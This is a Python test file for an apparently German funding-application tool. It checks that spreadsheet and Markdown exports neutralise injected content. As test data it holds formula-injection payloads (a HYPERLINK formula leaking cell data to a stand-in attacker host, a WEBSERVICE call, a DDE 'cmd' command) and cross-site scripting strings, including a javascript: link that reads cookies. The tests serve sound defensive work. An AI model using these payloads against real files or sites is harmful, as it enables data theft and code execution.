"""H2: a person's text never becomes a live formula in the XLSX (LibreOffice opens the file and
shows it as typed), and the Markdown passes no HTML and no link but http(s) and mailto."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from markdown_it import MarkdownIt

from funding_matcher.domain.budget import check_budget
from funding_matcher.domain.exports import (
    ApplicationDocument,
    ChecklistItem,
    Section,
    export_markdown,
    export_xlsx,
)

from .conftest import Office, needs_soffice

# The payloads of the probe, and their relatives.
HYPERLINK = '=HYPERLINK("https://angreifer.example/?d="&C5,"Details")'
FORMULAS = [
    HYPERLINK,
    "=1+1",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
    '=WEBSERVICE("https://angreifer.example")',
    "=cmd|' /C calc'!A0",
    "=SUM(K4:K9)",
]


def injected_budget(labels: list[str]) -> object:
    """A small plan (budget format v1) whose line labels and funding name are the payloads."""
    return check_budget(
        {
            "version": 1,
            "programme": None,
            "terms": {"financing_type": "anteil", "funding_rate_max_percent": 80},
            "period": {"start": "2027-01-01", "end": "2027-12-31"},
            "applied_on": "2026-11-15",
            "costs": [
                {"category": "sach", "label": label, "amount_eur": 100 + n}
                for n, label in enumerate(labels)
            ],
            "financing": {
                "own_funds_eur": 200,
                "other_public": [{"programme": HYPERLINK, "amount_eur": 50, "status": "beantragt"}],
            },
        }
    )


def document(**overrides: object) -> ApplicationDocument:
    fields: dict[str, object] = {
        "title": HYPERLINK,
        "programme_title": "=1+1",
        "programme_slug": "testprogramm",
        "funder": "\t=1+1",
        "applicant": "+49 201 123",
        "municipality": "Essen",
        "created_on": date(2026, 11, 2),
        "status_label": "Idee",
        "budget": injected_budget(FORMULAS),
        "exported_on": date(2026, 11, 29),
    }
    fields.update(overrides)
    return ApplicationDocument(**fields)


def test_every_persons_text_is_a_text_cell_with_the_quote_prefix():
    workbook = openpyxl.load_workbook(io.BytesIO(export_xlsx(document())))
    texts = {}
    formulas = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(str(cell.value))
                elif isinstance(cell.value, str):
                    texts[cell.value] = cell
    for payload in FORMULAS:
        cell = texts.get(payload)
        assert cell is not None, payload
        assert cell.data_type == "s"
        assert cell.quotePrefix, payload
    # The plan's own formulas are still live; none of them came from a person.
    assert any(f.startswith("=ROUND(") for f in formulas)
    assert not any("HYPERLINK" in f or "angreifer" in f or "WEBSERVICE" in f for f in formulas)
    # The title, programme and funder on the terms sheet are texts as well.
    for payload in (HYPERLINK, "=1+1", "\t=1+1", "+49 201 123"):
        assert texts[payload].data_type == "s", payload


def test_no_hyperlink_relation_in_the_file():
    archive = zipfile.ZipFile(io.BytesIO(export_xlsx(document())))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            assert b"<hyperlink" not in archive.read(name), name


@needs_soffice
def test_libreoffice_shows_the_payloads_as_typed(office: Office, tmp_path: Path):
    """Before: LibreOffice evaluated the labels and showed a clickable HYPERLINK."""
    source = tmp_path / "plan.xlsx"
    source.write_bytes(export_xlsx(document()))
    (converted,) = office.convert(
        [source], "csv:Text - txt - csv (StarCalc):44,34,76,1", tmp_path / "out"
    )
    rows = list(csv.reader(io.StringIO(converted.read_text(encoding="utf-8"))))
    cells = {cell for row in rows for cell in row}
    for payload in FORMULAS:
        assert payload in cells, payload
    # Nothing evaluated: no "Details" link text, no 2 from "=1+1" where the label stood.
    assert "Details" not in cells
    labels = [row[2] for row in rows if len(row) > 2]
    assert "2" not in labels
    assert "3" not in labels


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image": '<img src=x onerror="alert(1)">',
    "javascript": "[Antrag](javascript:alert(document.cookie))",
    "data": "[Bild](data:text/html;base64,PHNjcmlwdD4=)",
    "autolink": "<javascript:alert(1)>",
    "definition": "[hier][x]\n\n[x]: javascript:alert(1)",
    "angle": "[x](<javascript:alert(1)>)",
    "entity": "[x](jav&#x61;script:alert(1))",
    "vbscript": "[x](VBScript:msgbox)",
    "relative": "[x](/konto/)",
}


def rendered(markdown: str) -> str:
    """HTML as a tool that allows raw HTML and any link target would render it."""
    md = MarkdownIt("commonmark", {"html": True})
    md.validateLink = lambda url: True  # no help from the renderer: the text must be safe
    return md.render(markdown)


@pytest.mark.parametrize("payload", list(HOSTILE.values()), ids=list(HOSTILE))
def test_markdown_passes_no_html_and_no_foreign_link(payload: str):
    doc = document(
        title=f"Projekt {payload}",
        sections=[Section("text", "Ausgangslage", f"Vorher {payload} nachher")],
        checklist=[ChecklistItem(f"Anlage {payload}", required=True, done=False, note=payload)],
        budget=injected_budget([payload]),
    )
    html = rendered(export_markdown(doc))
    assert "<script" not in html
    assert "<img" not in html
    for href in re.findall(r'(?:href|src)="([^"]*)"', html):
        assert href.startswith(("http://", "https://", "mailto:")), href


def test_markdown_keeps_allowed_links_and_plain_text():
    text = (
        "Siehe [Richtlinie](https://example.org/rl), <https://example.org> und "
        "[Mail](mailto:a@b.de): 3 < 4."
    )
    doc = document(sections=[Section("text", "Ausgangslage", text)], budget=None)
    markdown = export_markdown(doc)
    html = rendered(markdown)
    assert 'href="https://example.org/rl"' in html
    assert 'href="https://example.org"' in html
    assert 'href="mailto:a@b.de"' in html
    assert "3 &lt; 4" in html
